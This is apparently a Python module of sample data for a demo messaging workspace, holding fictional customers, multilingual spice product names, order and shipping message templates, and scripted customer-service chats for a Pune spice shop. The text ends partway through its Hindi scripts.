# ruff: noqa: E501, RUF001 - a sentence is as long as it is, and its script has the letters it has
"""What is said in the sample workspace: a spice shop in Pune, its customers, and how their talks go.

A *turn* is `(code, gap, variants)`. The code names who speaks and in which form: `c` the customer, `s` the staff, `b` a
bot, `t` the shop's system with a template (`tc`: of a campaign). The second letter is the kind: `i` image, `v` video, `a`
audio, `d` document, `b` buttons or a list, `u` unknown to the service; none is text. Marks may follow: `^` replies to the
latest message of the other side, `!` failed, `?` not read yet, `~` recorded long after it was sent. The gap is the usual
number of minutes since the turn before. One of the variants is said; None is a message without text. `author` fills the
`{slots}`.
"""

from __future__ import annotations

Turn = tuple[str, float, tuple[str | None, ...]]
Script = tuple[Turn, ...]
Person = tuple[str, str, str, str, str]

STAFF = ((3, "Meera"), (4, "Rohan"), (7, "Anjali"), (12, "Imran"))

SHOP_PHONE = "910000020200"

# Grams or count, price in rupees, price in US dollars; the names follow in PRODUCTS, in the same order.
PRICES = (
    ("250 g", 220, 9),
    ("200 g", 280, 11),
    ("500 g", 190, 8),
    ("100 g", 460, 16),
    ("2 g", 620, 22),
    ("250 g", 240, 10),
    ("500 g", 390, 14),
    ("250 g", 310, 12),
    ("500 g", 260, 10),
    ("100 g", 210, 9),
)

PRODUCTS = {
    "en": (
        "Kashmiri chilli powder",
        "garam masala",
        "Sangli turmeric",
        "green cardamom",
        "saffron",
        "goda masala",
        "masala chai",
        "black pepper",
        "cumin",
        "cinnamon sticks",
    ),
    "hi": (
        "कश्मीरी लाल मिर्च",
        "गरम मसाला",
        "हल्दी",
        "हरी इलायची",
        "केसर",
        "गोडा मसाला",
        "मसाला चाय",
        "काली मिर्च",
        "जीरा",
        "दालचीनी",
    ),
    "mr": (
        "काश्मिरी मिरची",
        "गरम मसाला",
        "हळद",
        "वेलची",
        "केशर",
        "गोडा मसाला",
        "मसाला चहा",
        "काळी मिरी",
        "जिरे",
        "दालचिनी",
    ),
    "ta": (
        "காஷ்மீரி மிளகாய்த் தூள்",
        "கரம் மசாலா",
        "மஞ்சள் தூள்",
        "ஏலக்காய்",
        "குங்குமப்பூ",
        "கோடா மசாலா",
        "மசாலா டீ",
        "மிளகு",
        "சீரகம்",
        "பட்டை",
    ),
    "ar": (
        "الفلفل الكشميري",
        "غرام ماسالا",
        "الكركم",
        "الهيل الأخضر",
        "الزعفران",
        "غودا ماسالا",
        "شاي ماسالا",
        "الفلفل الأسود",
        "الكمون",
        "القرفة",
    ),
    "he": (
        "צ׳ילי קשמירי",
        "גראם מסאלה",
        "כורכום",
        "הל ירוק",
        "זעפרן",
        "גודה מסאלה",
        "תה מסאלה",
        "פלפל שחור",
        "כמון",
        "מקלות קינמון",
    ),
    "zh": (
        "克什米尔辣椒粉",
        "马萨拉香料粉",
        "姜黄粉",
        "绿豆蔻",
        "藏红花",
        "戈达马萨拉",
        "马萨拉奶茶",
        "黑胡椒",
        "孜然",
        "肉桂",
    ),
    "ja": (
        "カシミールチリ",
        "ガラムマサラ",
        "ターメリック",
        "グリーンカルダモン",
        "サフラン",
        "ゴダマサラ",
        "マサラチャイ",
        "ブラックペッパー",
        "クミン",
        "シナモン",
    ),
    "es": (
        "chile de Cachemira",
        "garam masala",
        "cúrcuma",
        "cardamomo verde",
        "azafrán",
        "goda masala",
        "té masala",
        "pimienta negra",
        "comino",
        "canela en rama",
    ),
    "pt": (
        "pimenta da Caxemira",
        "garam masala",
        "cúrcuma",
        "cardamomo verde",
        "açafrão",
        "goda masala",
        "chá masala",
        "pimenta-do-reino",
        "cominho",
        "canela em pau",
    ),
}

# First name, last name, city, country, language; those without a language are strangers, who buy nothing.
PEOPLE: tuple[Person, ...] = (
    ("Priya", "Deshpande", "Pune", "IN", "en"),
    ("Arjun", "Mehta", "Mumbai", "IN", "en"),
    ("Daniel", "Whitaker", "Leeds", "GB", "en"),
    ("सुनीता", "कुलकर्णी", "सातारा", "IN", "mr"),
    ("Nandini", "Rao", "Bengaluru", "IN", "en"),
    ("रमेश", "शर्मा", "इंदौर", "IN", "hi"),
    ("Maya", "Fernandes", "Goa", "IN", "en"),
    ("فاطمة", "المنصوري", "دبي", "AE", "ar"),
    ("Tom", "Halloran", "Chicago", "US", "en"),
    ("結衣", "佐藤", "横浜", "JP", "ja"),
    ("Lucía", "Ortega", "Guadalajara", "MX", "es"),
    ("静", "陈", "上海", "CN", "zh"),
    ("Ana", "Figueiredo", "Lisboa", "PT", "pt"),
    ("Karthik", "Subramanian", "Chennai", "IN", "en"),
    ("Sophie", "Marchand", "Lyon", "FR", "en"),
    ("कविता", "जोशी", "कोल्हापूर", "IN", "mr"),
    ("Grace", "Okafor", "London", "GB", "en"),
    ("Vikram", "Singh", "Delhi", "IN", "en"),
    ("நளினி", "முருகன்", "மதுரை", "IN", "ta"),
    ("Hannah", "Lindqvist", "Berlin", "DE", "en"),
    ("Rahul", "Bhatia", "Gurugram", "IN", "en"),
    ("אורי", "כהן", "חיפה", "IL", "he"),
    ("Emily", "Chen", "San Francisco", "US", "en"),
    ("अनिल", "वर्मा", "लखनऊ", "IN", "hi"),
    ("Farah", "Qureshi", "Hyderabad", "IN", "en"),
    ("Joe", "Brannigan", "Melbourne", "AU", "en"),
    ("Sneha", "Patil", "Nashik", "IN", "en"),
    ("Mateo", "Herrera", "Madrid", "ES", "es"),
    ("Wei Ling", "Tan", "Singapore", "SG", "en"),
    ("पूजा", "तिवारी", "भोपाल", "IN", "hi"),
    ("Rohit", "Agarwal", "Kolkata", "IN", "en"),
    ("خالد", "الحربي", "الرياض", "SA", "ar"),
    ("Beatriz", "Almeida", "São Paulo", "BR", "pt"),
    ("Meenal", "Kale", "Pune", "IN", "en"),
    ("Noah", "Tremblay", "Montréal", "CA", "en"),
    ("प्रकाश", "मोरे", "सांगली", "IN", "mr"),
    ("Divya", "Nair", "Kochi", "IN", "en"),
    ("健太", "鈴木", "大阪", "JP", "ja"),
    ("Oliver", "Pryce", "Cardiff", "GB", "en"),
    ("கார்த்திகா", "செல்வம்", "கோயம்புத்தூர்", "IN", "ta"),
    ("Aisha", "Rahman", "Birmingham", "GB", "en"),
    ("Sameer", "Kulkarni", "Pune", "IN", "en"),
    ("Ruth", "Abrams", "New York", "US", "en"),
    ("明", "王", "北京", "CN", "zh"),
    ("Tanvi", "Shah", "Ahmedabad", "IN", "en"),
    ("Valentina", "Rojas", "Bogotá", "CO", "es"),
    ("Harpreet", "Gill", "Vancouver", "CA", "en"),
    ("विजय", "यादव", "पटना", "IN", "hi"),
    ("Elena", "Petrova", "Berlin", "DE", "en"),
    ("Neha", "Joshi", "Thane", "IN", "en"),
    ("Marcus", "Bell", "Atlanta", "US", "en"),
    ("मंगला", "शिंदे", "पुणे", "IN", "mr"),
    ("Rafael", "Monteiro", "Porto", "PT", "pt"),
    ("Ishaan", "Kapoor", "Chandigarh", "IN", "en"),
    ("נועה", "לוי", "תל אביב", "IL", "he"),
    ("Claire", "Dubois", "Paris", "FR", "en"),
    ("Lakshmi", "Iyer", "Chennai", "IN", "en"),
    ("سارة", "الهاشمي", "أبو ظبي", "AE", "ar"),
    ("Ben", "Ashworth", "Manchester", "GB", "en"),
    ("Anita", "D'Souza", "Mangaluru", "IN", "en"),
    ("嘉欣", "林", "台北", "TW", "zh"),
    ("Pooja", "Reddy", "Hyderabad", "IN", "en"),
    ("Lucky Draw", "Desk", "Boston", "US", ""),
    ("सीमा", "गुप्ता", "जयपुर", "IN", "hi"),
    ("Jasmine", "Kaur", "Toronto", "CA", "en"),
    ("Siddharth", "Bose", "Kolkata", "IN", "en"),
    ("Camila", "Duarte", "Rio de Janeiro", "BR", "pt"),
    ("Aditi", "Gokhale", "Pune", "IN", "en"),
    ("Liam", "Nguyen", "Sydney", "AU", "en"),
    ("गणेश", "पवार", "नाशिक", "IN", "mr"),
    ("Zara", "Khan", "Dubai", "AE", "en"),
    ("Manoj", "Pillai", "Thiruvananthapuram", "IN", "en"),
    ("美咲", "高橋", "東京", "JP", "ja"),
    ("Isabel", "Navarro", "Valencia", "ES", "es"),
    ("Deepak", "Chawla", "Delhi", "IN", "en"),
    ("Hugo", "Laurent", "Nantes", "FR", "en"),
    ("அருண்", "குமார்", "சென்னை", "IN", "ta"),
    ("Shreya", "Banerjee", "Mumbai", "IN", "en"),
    ("Peter", "Novak", "Hamburg", "DE", "en"),
    ("نورة", "القحطاني", "جدة", "SA", "ar"),
    ("Gauri", "Sathe", "Pune", "IN", "en"),
    ("Amelia", "Rhodes", "Bristol", "GB", "en"),
    ("सुरेश", "चौधरी", "वाराणसी", "IN", "hi"),
    ("Naveen", "Gowda", "Mysuru", "IN", "en"),
    ("Diego", "Salinas", "Monterrey", "MX", "es"),
    ("Jun Hao", "Lim", "Singapore", "SG", "en"),
    ("Rekha", "Menon", "Kozhikode", "IN", "en"),
    ("Caroline", "Fisk", "Seattle", "US", "en"),
    ("वैशाली", "जाधव", "सोलापूर", "IN", "mr"),
    ("Akash", "Jain", "Jaipur", "IN", "en"),
    ("慧", "黄", "香港", "HK", "zh"),
    ("Fiona", "MacLeod", "Glasgow", "GB", "en"),
    ("Tarun", "Saxena", "Lucknow", "IN", "en"),
    ("Nadia", "Haddad", "Dubai", "AE", "en"),
    ("João", "Carvalho", "Coimbra", "PT", "pt"),
    ("Swati", "Pawar", "Pune", "IN", "en"),
    ("Greg", "Olson", "Denver", "US", "en"),
    ("राधा", "मिश्रा", "कानपुर", "IN", "hi"),
    ("Mitali", "Sen", "Siliguri", "IN", "en"),
    ("דניאל", "ברק", "ירושלים", "IL", "he"),
    ("Anders", "Holm", "Berlin", "DE", "en"),
    ("Jyoti", "Chavan", "Pune", "IN", "en"),
    ("يوسف", "العلي", "الدوحة", "QA", "ar"),
    ("Chloe", "Barker", "Brisbane", "AU", "en"),
    ("Suresh", "Kamath", "Udupi", "IN", "en"),
    ("大輔", "伊藤", "福岡", "JP", "ja"),
    ("Megan", "Lloyd", "Swansea", "GB", "en"),
    ("Paula", "Giménez", "Sevilla", "ES", "es"),
    ("Ritika", "Malhotra", "Delhi", "IN", "en"),
    ("செந்தில்", "வேல்", "திருச்சி", "IN", "ta"),
    ("Omar", "Siddiqui", "Houston", "US", "en"),
    ("स्वप्नील", "भोसले", "पुणे", "IN", "mr"),
    ("Larissa", "Campos", "Curitiba", "BR", "pt"),
    ("~", "", "", "IN", ""),
    ("Alice", "Renaud", "Toulouse", "FR", "en"),
    ("مريم", "السويدي", "الشارقة", "AE", "ar"),
    ("Gayatri", "Phadke", "Pune", "IN", "en"),
    ("Account", "Services", "Los Angeles", "US", ""),
    ("दीपक", "त्रिपाठी", "आगरा", "IN", "hi"),
    ("Leela", "Varghese", "Kochi", "IN", "en"),
)

COMPANIES = {
    "Nandini": "Café Malabar",
    "Vikram": "Tandoor & Tea LLP",
    "Grace": "Okafor Kitchen Ltd",
    "Joe": "Brannigan's Deli",
    "Harpreet": "Gill Catering",
    "Mateo": "Bar Azafrán",
    "Divya": "Backwater Homestay",
    "Claire": "Épicerie Dubois",
    "健太": "カレー屋すずき",
    "خالد": "مطعم الحربي",
}

ORDER = (
    "<b>Order {order} confirmed</b><br>Hi {name}, thank you for shopping at Saunf &amp; Sons.<br>"
    '{qty} × {item}, {size}<br>Total: <b>{total}</b><br><a href="https://saunfandsons.example/o/{order}">See your order</a>'
)
SHIPPED = (
    "<b>On its way 🚚</b><br>Hi {name}, order {order} left our shop today with SwiftPost.<br>"
    'Tracking number: {awb}<br><a href="https://swiftpost.example/t/{awb}">Track it</a>'
)
OUT = "Hi {name}, order <b>{order}</b> is out for delivery today.<br>Please keep your phone close &amp; somebody at the door."
DELIVERED = (
    "Hi {name}, order <b>{order}</b> was delivered. We hope you enjoy it!<br>Questions &amp; feedback: just reply here."
)
REMINDER = (
    "Hi {name}, your payment of <b>{total}</b> for order {order} is still open.<br>"
    '<a href="https://pay.saunfandsons.example/{order}?via=wa&amp;lang=en">Pay now</a> or reply for help.'
)
BASKET = (
    "Hi {name}, you left <b>{item}</b> in your basket. It is kept for you for 24 hours.<br>"
    '<a href="https://saunfandsons.example/basket?utm_source=wa&amp;utm_medium=template">Finish your order</a>'
)
REFUND = "<b>Refund issued</b><br>Hi {name}, {total} for order {order} is on its way back to you, in 3–5 working days."
ORDER_HI = (
    "<b>ऑर्डर {order} पक्का हो गया</b><br>नमस्ते {name} जी, Saunf &amp; Sons से खरीदारी के लिए धन्यवाद।<br>"
    '{qty} × {item}, {size}<br>कुल: <b>{total}</b><br><a href="https://saunfandsons.example/o/{order}">ऑर्डर देखें</a>'
)
ORDER_MR = (
    "<b>ऑर्डर {order} नक्की झाली</b><br>नमस्कार {name}, Saunf &amp; Sons कडून खरेदी केल्याबद्दल आभार.<br>"
    '{qty} × {item}, {size}<br>एकूण: <b>{total}</b><br><a href="https://saunfandsons.example/o/{order}">ऑर्डर पाहा</a>'
)
ORDER_ES = (
    "<b>Pedido {order} confirmado</b><br>Hola {name}, gracias por comprar en Saunf &amp; Sons.<br>"
    '{qty} × {item}, {size}<br>Total: <b>{total}</b><br><a href="https://saunfandsons.example/o/{order}">Ver el pedido</a>'
)
MENU = "Welcome back to Saunf & Sons 🌶️ What can we do for you?\n1. Track my order\n2. Report a problem\n3. Talk to a person"
RATE = "Hi {name}, how was your order {order}?\n• Loved it\n• It was okay\n• Not happy"
CLOSED = "Thanks for writing to Saunf & Sons 🌶️ The shop is closed just now. We answer first thing when we open."

# English scripts. In SCRIPTS a script stands under the language of those who would speak it.
ENGLISH: tuple[Script, ...] = (
    (
        (
            "c",
            0,
            ("Hi! Is the {item} back in stock?", "Hello, do you have {item} today?", "Hi, how much is the {item} now?"),
        ),
        (
            "s",
            6,
            (
                "Hi {name}, yes, a fresh batch came this week. {price} for {size}.",
                "Hello {name}! We do. {size} is {price} 🌶️",
                "Hi {name}, it's {price} for {size}, ground this week.",
            ),
        ),
        (
            "c",
            4,
            ("Great, {qty} of those please, to {city}", "I'll take {qty}. Same address as before", "{qty} please 🙏"),
        ),
        (
            "s^",
            5,
            (
                "{qty} × {price}, delivery {ship}: {total} in all. Shall I book it?",
                "That comes to {total}, delivery {ship}. OK for you?",
            ),
        ),
        ("c^", 3, ("Yes please", "Perfect, go ahead 👍", "ok done, paid now", "Yes! Paid by UPI just now")),
        ("t", 1, (ORDER,)),
        ("t", 1300, (SHIPPED,)),
        ("t", 3100, (DELIVERED,)),
        (
            "c",
            95,
            (
                "Arrived today, the smell when I opened it 😍",
                "Got it, thanks!",
                "Received. Thank you {staff}!",
                "Parcel is here, all good 👍🏽",
            ),
        ),
    ),
    (
        (
            "c",
            0,
            (
                "Where is my order {order}?",
                "Hi, any news on {order}? It's been a few days",
                "Tracking for {order} hasn't moved since yesterday",
            ),
        ),
        (
            "s",
            9,
            (
                "Let me check with the courier, one minute please.",
                "Hi {name}, looking into it now.",
                "Checking, {name} 🙂",
            ),
        ),
        (
            "s",
            14,
            (
                "It is at the {city} hub and goes out tomorrow. Tracking {awb}.",
                "They missed the evening truck, sorry. It reaches {city} tomorrow: {awb}.",
                "Courier says it is out for delivery today, {awb}.",
            ),
        ),
        ("c^", 5, ("Ok thanks for checking", "Alright, I'll wait", "👍", "Thank you, that helps")),
        ("t", 1250, (OUT,)),
        ("t", 300, (DELIVERED,)),
    ),
    (
        (
            "c",
            0,
            (
                "Hi, my parcel {order} came damaged 😟",
                "The box of {order} was open when it came. Look",
                "Not happy, jar broken in {order}",
            ),
        ),
        ("ci", 1, (None, "this is how it came", "see the corner")),
        ("ci", 0.4, (None, "half of the {item} is in the box", None)),
        (
            "s^",
            7,
            (
                "Oh no, so sorry {name}! We'll send a new jar today, no charge.",
                "That's on us, {name}. Do you want a new one or the money back?",
                "Sorry to see that, {name} 🙏 A replacement goes out today.",
            ),
        ),
        ("c", 6, ("A new one please", "Replacement is fine, thank you", "Thanks, new one please. It is for Saturday")),
        (
            "s",
            4,
            (
                "Done, with a small packet of {item2} from us. Please keep the rest.",
                "Booked. No need to send anything back.",
            ),
        ),
        ("c^", 3, ("That was quick, thank you ❤️", "Best service 👏🏽", "Thanks {staff}, appreciate it")),
        ("t", 240, (SHIPPED,)),
        ("t", 2700, (DELIVERED,)),
        ("c", 200, ("All in one piece this time 😄", "New jar arrived, perfect", "Came safely, thank you")),
    ),
    (
        ("t", 0, (BASKET,)),
        (
            "c^",
            38,
            (
                "Oh yes I forgot! Is it still the same price?",
                "Can I add {item2} to it?",
                "Does it come in a smaller pack?",
            ),
        ),
        (
            "s",
            8,
            (
                "Yes {name}: {price} for {size}, same as in the basket.",
                "Of course. {item} is {price}, and I can add what you like before 5.",
            ),
        ),
        ("c", 11, ("Ok I'll finish it tonight", "Done, ordered!", "Let me think about it")),
    ),
    (
        (
            "c",
            0,
            (
                "Can you send the GST invoice for {order}?",
                "Need the bill for {order} please",
                "Hi, invoice for {order}? My accountant is asking",
            ),
        ),
        ("s", 12, ("Sure, one moment.", "Yes {name}, making it now.", "Here you go:")),
        ("sd", 2, ("Invoice {order}.pdf", None)),
        ("c", 7, ("Got it 👍🏽", "Received, thank you", "Thanks! Could you add the GSTIN next time?")),
    ),
    (
        ("c", 0, ("Invoice for {order} please", "Hi {staff}, can I have the invoice of {order} as PDF?")),
        ("sd!", 10, ("Invoice {order}.pdf",)),
        (
            "s",
            3,
            ("Sorry, the file did not go through. Trying again.", "Hm, WhatsApp did not take the file. Once more:"),
        ),
        ("sd", 2, ("Invoice {order}.pdf",)),
        ("c", 6, ("Now it's there, thanks", "Came this time 👍", "Yes got it")),
    ),
    (
        ("c", 0, ("Hi", "Hello", "Hey there")),
        ("bb", 0.1, (MENU,)),
        ("cb", 0.6, ("Track my order",)),
        ("b", 0.1, ("Order {order}: handed to SwiftPost, tracking {awb}. Expected in 1–2 days.",)),
        ("c", 2, ("ok thanks", "🙏", "Great, thank you!")),
    ),
    (
        ("c", 0, ("Hi", "Hello!", "Anybody there?")),
        ("bb", 0.1, (MENU,)),
        ("cb", 0.5, ("Talk to a person",)),
        ("b", 0.1, ("Somebody from the shop will answer soon 🙂",)),
        ("s", 8, ("Hi {name}, {staff} here. How can I help?", "Hello {name}, this is {staff} from the shop.")),
        (
            "c",
            2,
            (
                "Do you grind {item} to order? I'd like it coarse",
                "Can I get {item} unground, 1 kg?",
                "Is your {item} roasted before grinding?",
            ),
        ),
        (
            "s^",
            5,
            (
                "We do, just write it in the note of your order. No extra charge.",
                "Yes, tell me how coarse and I'll tell the mill. It takes a day longer.",
                "Lightly, yes, in small lots. I can send a picture if you like.",
            ),
        ),
        ("c", 3, ("Lovely, will do", "Perfect, ordering now", "Ah good to know. Thanks {staff}!")),
    ),
    (
        ("bb", 0, (RATE,)),
        ("cb", 45, ("Loved it", "Loved it", "It was okay")),
        ("b", 0.1, ("Thank you, that means a lot to a small shop 🙏",)),
        (
            "c",
            4,
            (
                "Keep it up!",
                "The {item} is the best I had outside my mother's kitchen",
                "👨‍👩‍👧‍👦 all of us say thanks",
                "Packing was super",
            ),
        ),
    ),
    (
        ("bb", 0, (RATE,)),
        ("cb", 130, ("Not happy",)),
        (
            "s",
            12,
            ("Hi {name}, sorry to hear that. What went wrong?", "Oh, what happened, {name}? Tell me and I'll fix it."),
        ),
        (
            "c",
            9,
            (
                "The {item} smells flat, I think it is old",
                "Got {item2} instead of {item}",
                "One packet short. I paid for {qty}",
            ),
        ),
        (
            "s^",
            6,
            (
                "That should not happen. New one or money back, as you like.",
                "Our mistake, sorry! I can refund it or send it again.",
            ),
        ),
        ("c", 5, ("Money back please", "Refund is easier")),
        ("s", 3, ("Done, it takes 3–5 working days.", "Refunded just now, {name}. Sorry again.")),
        ("t", 2, (REFUND,)),
    ),
    (
        ("ca", 0, (None,)),
        (
            "s^",
            11,
            (
                "Heard your voice note, {name} 🙂 Yes, {item} can go along with the other order.",
                "Thanks for the voice message. {size} is {price}, and we ship to {city} in 3 days.",
                "Sorry, it was very noisy on the recording. Could you type it please?",
            ),
        ),
        ("ca", 5, (None,)),
        ("s", 6, ("Clear now! Will do.", "Understood, I'll set it aside for you.", "Ok, all noted 👍")),
        ("c", 2, ("🙏🏽", "Thanks!", "great")),
    ),
    (
        ("c", 0, ("Do you ship to {city}?", "How much is delivery to {city}?", "How long to {city} by normal post?")),
        (
            "s",
            7,
            (
                "We do! Usually 3–6 days to {city}, delivery is {ship}.",
                "Yes {name}, delivery to {city} is {ship}. Free above a certain amount.",
            ),
        ),
        ("c", 6, ("And customs?", "Is it tracked?", "Can somebody else receive it?")),
        (
            "s^",
            5,
            (
                "You get a tracking number, and we fill in all the papers. Nothing to pay at the door so far 🤞",
                "Tracked all the way, and anybody at the address can sign.",
            ),
        ),
        (
            "c",
            8,
            ("Good, I'll put something together", "Super, thanks", "Okay let me ask my sister if she wants anything"),
        ),
    ),
    (
        (
            "c",
            0,
            (
                "How much {item} do I use for 1 kg of chicken?",
                "Any recipe for the {item}?",
                "What's a good way to store {item}?",
            ),
        ),
        (
            "s",
            10,
            (
                "Two flat spoons for a kilo, and a pinch at the end. Less is more!",
                "Start with one teaspoon for four people, bloom it in warm ghee first.",
                "Airtight, away from light and not above the stove. Best within six months.",
            ),
        ),
        ("si", 2, ("From our kitchen, for ideas 🍛", "This is Meera's version", None)),
        ("c^", 7, ("Now I'm hungry 😂", "Looks wonderful", "Saving this 😋")),
        ("ci", 1500, ("How did I do? 😎", "My try!", None)),
        ("s^", 20, ("👏👏 You should open a shop", "Beautiful colour, {name}!", "Wow, well done 💃🏽")),
    ),
    (
        (
            "c",
            0,
            (
                "Hi, do you do wholesale? We need {item} every month",
                "What's your price for 25 kg {item}?",
                "Restaurant here in {city}, can you quote {item} and {item2}?",
            ),
        ),
        (
            "s",
            15,
            (
                "Hello {name}, we do, from 10 kg on. I'll send you the list.",
                "Hi {name}, happily. Here is the current list:",
            ),
        ),
        ("sd", 2, ("Wholesale prices.pdf", "Price list, valid this month.pdf")),
        (
            "c",
            190,
            ("Looks fair. What about payment terms?", "Can you do better on 50 kg?", "Is the {item2} single origin?"),
        ),
        (
            "s^",
            22,
            (
                "15 days from invoice after the third order. Before that, in advance.",
                "4% off from 50 kg, that's where we are. We'd rather not cut the quality.",
                "It is, one farm in Sangli. I can send the lab report.",
            ),
        ),
        ("cd", 1400, ("PO-118.pdf", "Purchase order.pdf", None)),
        ("s", 30, ("Received, thank you! Dispatch in three days.", "Thanks {name}, confirming all lines.")),
    ),
    (
        ("t", 0, (REMINDER,)),
        (
            "c^",
            25,
            ("Paid just now, can you check?", "Card was refused, can I pay by UPI?", "Sorry! Was travelling. Done now"),
        ),
        ("ci", 1, ("Payment screenshot", None)),
        ("s", 9, ("Received, thank you {name} 🙏", "It's in. Order goes out today.", "Yes, got it now. Thanks!")),
    ),
    (
        (
            "c",
            0,
            (
                "Please change the address of {order}",
                "I typed the wrong pin code in {order} 🙈",
                "Can {order} go to my office instead?",
            ),
        ),
        ("s", 5, ("Sure, what is the right one?", "No problem, it has not left yet. Where to?")),
        (
            "c",
            3,
            (
                "Flat 4, Neem Apartments, {city}",
                "Care of the front desk, 2nd floor, Orchid House, {city}",
                "Same street, number 12 instead of 21",
            ),
        ),
        ("s^", 4, ("Changed ✅", "Done, {order} goes there.", "Updated. You'll get the tracking this evening.")),
        ("c", 2, ("Phew, thanks", "Thank you!!", "👌🏼")),
        ("t", 260, (SHIPPED,)),
        ("t", 2900, (DELIVERED,)),
    ),
    (
        (
            "c",
            0,
            (
                "Can you gift wrap? It's for my mother's birthday 🎂",
                "I want to send a box to my friend in {city}, with a card",
                "Do you have a gift box?",
            ),
        ),
        (
            "s",
            8,
            ("We do! Twelve small jars in a wooden box. Shall I send a photo?", "Of course. What should the card say?"),
        ),
        ("si", 3, (None, "The box, with {item} and eleven others")),
        (
            "c",
            6,
            (
                "So pretty! One please, to {city}",
                "Beautiful 😍 ordering one",
                "Love it. Card: “With love from all of us 👩‍👩‍👧‍👦”",
            ),
        ),
        ("t", 5, (ORDER,)),
        ("t", 1400, (SHIPPED,)),
        ("t", 2600, (DELIVERED,)),
        ("c", 60, ("She cried 😭❤️ thank you", "My friend loved it!", "It came right on the day, thanks {staff}")),
    ),
    (
        ("cv", 0, ("Is it supposed to foam like this?", None, "look at this 😂")),
        (
            "s",
            13,
            (
                "Haha yes, that's the fresh ginger in the {item}. Lower flame 🔥",
                "That is normal, {name}, skim it off and go on.",
            ),
        ),
        ("c^", 4, ("Ok good 😅", "Relieved, thanks", "lol thanks")),
    ),
    (
        (
            "c",
            0,
            (
                "I want to cancel {order}",
                "Please cancel {order}, ordered twice by mistake",
                "Is it too late to cancel {order}?",
            ),
        ),
        ("s", 6, ("Not packed yet, so no problem. Cancelled, {name}.", "Done. The money goes back the way it came.")),
        ("t", 1, (REFUND,)),
        ("c", 8, ("Thanks for being so easy about it", "Thank you", "Ok 👍")),
    ),
    (
        (
            "c",
            0,
            (
                "Is the {item} organic?",
                "Any additives or colour in your {item}?",
                "Is {item} gluten free? My son is coeliac",
            ),
        ),
        (
            "s",
            9,
            (
                "Nothing but the spice, {name}. We grind it ourselves. Here is the lab report:",
                "No colour, no starch. The latest test:",
            ),
        ),
        ("sd", 1, ("Lab report 2.pdf", None)),
        (
            "c^",
            15,
            (
                "Very clear, thank you",
                "That's more than I hoped for",
                "Great. {qty} packs then, I'll order on the site",
            ),
        ),
    ),
    (
        (
            "c",
            0,
            ("Good morning! The usual please ☕", "Hi {staff}, same again as last month?", "Time for a refill 😄"),
        ),
        (
            "s",
            4,
            (
                "Good to hear from you {name}! {qty} × {item}, to {city}?",
                "Of course. {qty} × {item}, {total} with delivery.",
            ),
        ),
        ("c", 2, ("Exactly", "Yes, and {item2} if it's fresh", "Yep 👍🏻")),
        ("t", 3, (ORDER,)),
        ("c", 1, ("Paid", "Transferred ✅", "Thanks!")),
        ("t", 1200, (SHIPPED,)),
        ("t", 2800, (DELIVERED,)),
    ),
    (
        (
            "c",
            0,
            ("Are you open on the holiday?", "Can I pick up in the shop today?", "Is there parking near the shop?"),
        ),
        (
            "s",
            7,
            (
                "Yes, half the day. Come before lunch!",
                "Sure, I'll keep it ready at the counter.",
                "Behind the temple, 2 minutes on foot 🙂",
            ),
        ),
        ("c", 3, ("On my way", "See you then", "Thanks, will send my driver")),
        (
            "s",
            70,
            (
                "It was nice to meet you, {name}!",
                "Packet is with your driver now 👍",
                "You forgot your umbrella here ☂️",
            ),
        ),
        ("c^", 15, ("😄", "Haha thank you", "Same here!")),
    ),
    (
        ("c", 0, ("The link for {order} doesn't open", "Your site says error 500 at payment", "OTP is not coming")),
        ("s", 6, ("Sorry {name}, the payment page had a hiccup. Can you try again?", "Strange. Which phone is it?")),
        ("ci", 4, (None, "this is what I see", "screenshot")),
        (
            "s^",
            8,
            (
                "Thank you, passed on to our web man. I can take the order here meanwhile.",
                "Ah, that's an old link. This one: https://saunfandsons.example/o/{order}",
            ),
        ),
        ("c", 5, ("That works", "ok now it went through", "Let's do it here then, {qty} × {item}")),
    ),
    (
        (
            "c",
            0,
            (
                "My neighbour told me about you. What would you start with?",
                "Hi, found you on Instagram! Which masala is not too hot?",
            ),
        ),
        (
            "s",
            9,
            (
                "Welcome {name}! The {item} first, everybody comes back for it.",
                "Hello {name} 🙂 {item}: warm, not hot. {price} for {size}.",
            ),
        ),
        ("c", 5, ("Ok, one of it", "Let's try. And {item2}?", "Sounds good, how do I pay?")),
        ("s", 4, ("I'll send you a payment link, card or UPI both work.", "Good choice. Link comes in a second.")),
        ("t", 1, (REMINDER,)),
        ("c", 12, ("Done", "Paid 💳", "Payment went through")),
        ("t", 1, (ORDER,)),
        ("t", 1350, (SHIPPED,)),
        ("t", 3000, (DELIVERED,)),
        ("c", 400, ("Ok you have a new fan 🇮🇳", "Neighbour was right!", "Will come back for more 🤩")),
    ),
)
# Who says that they are new says it first of all.
NEWCOMER = ENGLISH[-1]

HINDI: tuple[Script, ...] = (
    (
        ("c", 0, ("नमस्ते, {item} मिलेगा क्या?", "भैया {item} का रेट क्या है?", "{item} ताज़ा आया है क्या?")),
        ("s", 6, ("नमस्ते {name} जी, हाँ बिल्कुल। {size} {price} का है।", "जी हाँ, इसी हफ़्ते आया है। {price} में {size}।")),
        ("c", 4, ("{qty} पैकेट भेज दीजिए", "ठीक है, {qty} दे दो, {city} भेजना है")),
        ("s^", 5, ("कुल {total} होगा, डिलीवरी {ship}। बुक कर दूँ?",)),
        ("c^", 2, ("हाँ कर दीजिए", "जी, UPI कर दिया 🙏")),
        ("t", 1, (ORDER_HI,)),
        ("t", 1300, (SHIPPED,)),
        ("t", 3000, (DELIVERED,)),
        ("c", 120, ("मिल गया, धन्यवाद 🙏🏽", "सामान आ गया। खुशबू बहुत अच्छी है!", "मिल गया जी")),
    ),
    (
        ("c", 0, ("{order} कब तक आएगा?", "मेरा ऑर्डर {order} अभी तक नहीं आया")),
        ("s", 10, ("{name} जी, अभी कूरियर से पूछकर बताती हूँ।", "एक मिनट, देख रहे हैं।")),
        ("s", 12, ("{city} पहुँच गया है, कल मिल जाएगा। ट्रैकिंग {awb}",)),
        ("c^", 5, ("ठीक है", "अच्छा जी, धन्यवाद", "👍")),
        ("t", 1400, (DELIVERED,)),
    ),
    (
        ("c", 0, ("डिब्बा टूटा हुआ आया है 😞", "पैकेट फटा हुआ था, आधा {item} बिखर गया")),
        ("ci", 1, (None, "ये देखिए")),
        ("s^", 8, ("माफ़ कीजिए {name} जी! आज ही नया भेज रहे हैं, कोई पैसा नहीं लगेगा।",)),
        ("c", 4, ("बहुत धन्यवाद", "ठीक है, आप लोग अच्छे हैं 🙂")),
        ("t", 300, (SHIPPED,)),
    ),
    (
        ("ca", 0, (None,)),
        ("s^", 9, ("जी, आपका वॉइस मैसेज सुना। {item} आज पैक हो जाएगा।",)),
